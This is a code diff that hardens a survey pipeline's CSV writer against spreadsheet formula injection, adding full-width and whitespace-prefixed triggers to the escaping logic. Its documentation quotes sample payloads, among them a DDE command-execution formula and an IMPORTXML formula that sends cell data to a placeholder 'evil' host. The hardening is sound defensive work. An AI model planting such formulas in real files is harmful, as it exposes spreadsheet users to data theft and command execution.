@@ -7,7 +7,8 @@ BOM, header always written, ``None`` an empty cell, integers in decimal), with t
 
 - **Formula neutralisation.** Anyone who can text the shortcode decides what a raw-text cell starts with, and
   analysts, coders and producers open these files in Excel or Google Sheets. A cell whose text starts with
-  ``=``, ``+``, ``-``, ``@``, a tab or a carriage return would be read as a formula (``=HYPERLINK(...)``,
+  ``=``, ``+``, ``-``, ``@`` (or their full-width forms, or any of these after leading spaces), a tab or a carriage
+  return would be read as a formula (``=HYPERLINK(...)``,
   ``+cmd|' /C calc'!A0``, ``=IMPORTXML("http://evil/?"&A2, ...)``), so it gets a leading ``'``, the spreadsheet
   convention for "this is text"; the spreadsheet shows the text as sent. No text column the pipeline writes holds a
   negative number (codes, ``true``/``false``, ``0``/``1``, ages 10-99, run ids are positive), so a text cell
@@ -35,17 +36,27 @@ from redss_pipeline.core.atomic_files import atomic_open
 
 __all__ = ["FORMULA_STARTS", "neutralise", "render_cell", "render_quoted_cell", "CsvLines", "CsvWriter", "write_csv"]
 
-FORMULA_STARTS = frozenset("=+-@\t\r")
+FORMULA_STARTS = frozenset("=+-@\t\r\uff1d\uff0b\uff0d\uff20")
 """The first characters that make a spreadsheet read a cell as a formula (or, for tab and CR, that some
-spreadsheets strip before looking for one)."""
+spreadsheets strip before looking for one): ``= + - @``, their full-width forms (which spreadsheets in East Asian
+locales take for them), tab and carriage return."""
+
+# What some importers skip before they look for a formula (Google Sheets and LibreOffice can trim leading
+# spaces): whitespace of any kind and the invisible zero-width characters, a byte order mark among them.
+_SKIPPED_BEFORE_FORMULA = re.compile(r"\A[\s\u200b\u200c\u200d\u2060\ufeff]+")
 
 _NEEDS_QUOTES = re.compile(r'[",\r\n]')
 _MEMO_LIMIT = 200_000  # distinct texts remembered per file; raw texts are mostly distinct, codes are few
 
 
 def neutralise(text: str) -> str:
-    """``text`` with a leading ``'`` when a spreadsheet would otherwise read it as a formula."""
-    return "'" + text if text[:1] in FORMULA_STARTS else text
+    """``text`` with a leading ``'`` when a spreadsheet would otherwise read it as a formula: when it starts with
+    one of :data:`FORMULA_STARTS`, or does once leading whitespace and zero-width characters are skipped
+    (``" =1+1"``)."""
+    if text[:1] in FORMULA_STARTS:
+        return "'" + text
+    visible = _SKIPPED_BEFORE_FORMULA.sub("", text, count=1)
+    return "'" + text if visible[:1] in FORMULA_STARTS else text
 
 
 def render_cell(value: Any) -> str:
